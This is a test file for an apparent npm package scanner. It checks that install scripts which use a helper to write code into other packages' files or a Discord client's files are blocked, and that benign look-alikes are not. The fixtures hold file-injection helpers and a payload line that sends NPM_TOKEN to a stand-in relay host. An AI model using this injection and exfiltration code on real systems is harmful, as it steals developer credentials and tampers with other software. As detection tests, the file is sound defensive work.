/**
 * A path handed to another module's function that writes to it (docs/package-analysis.md, "Branch pkg24"): the
 * collector reads the helper again with its parameter as that path (npm/flow-facts.ts `Handoff.strs`, collector/follow.ts),
 * so a write into another installed package's code or a chat client's code is judged as if written in the caller.
 * `__dirname` in the helper is its folder where the package is installed (`node_modules/<this package>/lib`): climbing
 * out of it with `..` reaches the other packages.
 *
 * Real case (npm families, pkg23, the variant left CAUTION then): a postinstall script hands `patch()` of `lib/patch.js`
 * a chat library's file and code; `patch` resolves it two folders above its own and appends the code.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import { FAMILIES_PKG23 } from '../support/npm-families-pkg23.js';

// Inert text: the archives are only read, never installed or run.
const pkg = (scripts: Record<string, string> = { postinstall: 'node install.js' }) => JSON.stringify({ name: 'acme-kit', version: '1.0.3', main: 'index.js', scripts });
const PATCH = "const fs = require('fs');\nconst path = require('path');\nmodule.exports = (rel, code) => {\n  const f = path.resolve(__dirname, '..', '..', rel);\n  fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + code);\n};\n";
const PAYLOAD = "\"fetch('https://hook.acme-relay.example/x', { method: 'POST', body: process.env.NPM_TOKEN });\"";
const rate = (files: Record<string, string>) => rateNpmFiles(files, { name: 'acme-kit', version: '1.0.3' });

test('real case: a helper module appends code to the file of another package the install script names: BLOCKED', async () => {
  const v = FAMILIES_PKG23.find((x) => x.id === 'inject-helper-module-patch')!;
  const r = await rate(v.files);
  assert.is(r.level, 'BLOCKED', r.rules.join(' '));
});

test('variants: a joined path, a named export, a Discord client path, the call on import: BLOCKED', async () => {
  const cases: Record<string, Record<string, string>> = {
    'a path.join of the other package handed over': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': `const path = require('path');\nconst save = require('./lib/save');\nsave(path.join(process.cwd(), 'node_modules', 'ethers', 'lib', 'wallet.js'), ${PAYLOAD});\n`,
      'lib/save.js': "const fs = require('fs');\nmodule.exports = function save(file, text) {\n  fs.appendFileSync(file, text);\n};\n",
    },
    'a named export of a helper, called through its module': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': `const io = require('./lib/io');\nio.inject('node_modules/axios/index.js', ${PAYLOAD});\n`,
      'lib/io.js': "const fs = require('fs');\nexports.inject = function (file, code) {\n  const src = fs.readFileSync(file, 'utf8');\n  fs.writeFileSync(file, code + src);\n};\n",
    },
    "a chat client's code handed over": {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': `const path = require('path');\nconst put = require('./lib/put');\nput(path.join(process.env.LOCALAPPDATA || '', 'Discord', 'app-1.0.9', 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js'), ${PAYLOAD});\n`,
      'lib/put.js': "const fs = require('fs');\nmodule.exports = (p, s) => fs.writeFileSync(p, s);\n",
    },
    'no network word in the caller (the code is a local string)': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': "const patch = require('./lib/patch');\npatch('other-kit/dist/build.js', \"module.exports.version = '9.9.9';\");\n",
      'lib/patch.js': PATCH,
    },
    "on import: the package's main calls the helper in its module-level code": {
      'package.json': JSON.stringify({ name: 'acme-kit', version: '1.0.3', main: 'index.js' }),
      'index.js': `const patch = require('./lib/patch');\npatch('ethers/lib/wallet.js', ${PAYLOAD});\nmodule.exports = {};\n`,
      'lib/patch.js': PATCH,
    },
  };
  for (const [name, files] of Object.entries(cases)) {
    const r = await rate(files);
    assert.is(r.level, 'BLOCKED', `${name}: ${r.level} ${r.rules.join(' ')}`);
  }
});

test("honest twins: the same helper writing the package's own file, a cache folder, or called only inside an exported function: not BLOCKED", async () => {
  const cases: Record<string, Record<string, string>> = {
    'its own dist file': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': "const patch = require('./lib/patch');\npatch('acme-kit/dist/build.js', \"module.exports.version = '1.0.3';\");\n",
      'lib/patch.js': PATCH,
    },
    'its own file one folder up': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': "const patch = require('./lib/patch');\npatch('dist/build.js', \"module.exports.version = '1.0.3';\");\n",
      'lib/patch.js': PATCH.replace("'..', '..', rel", "'..', rel"),
    },
    'a cache folder of the project': {
      'package.json': pkg(),
      'index.js': 'module.exports = {};\n',
      'install.js': "const path = require('path');\nconst save = require('./lib/save');\nsave(path.join(process.cwd(), 'node_modules', '.cache', 'acme-kit', 'state.js'), 'module.exports = {}');\n",
      'lib/save.js': "const fs = require('fs');\nmodule.exports = function save(file, text) {\n  fs.writeFileSync(file, text);\n};\n",
    },
  };
  for (const [name, files] of Object.entries(cases)) {
    const r = await rate(files);
    assert.is.not(r.level, 'BLOCKED', `${name}: ${r.rules.join(' ')}`);
    assert.not.ok(r.rules.some((x) => /persistence/.test(x)), `${name}: ${r.rules.join(' ')}`);
  }
});

test.run();
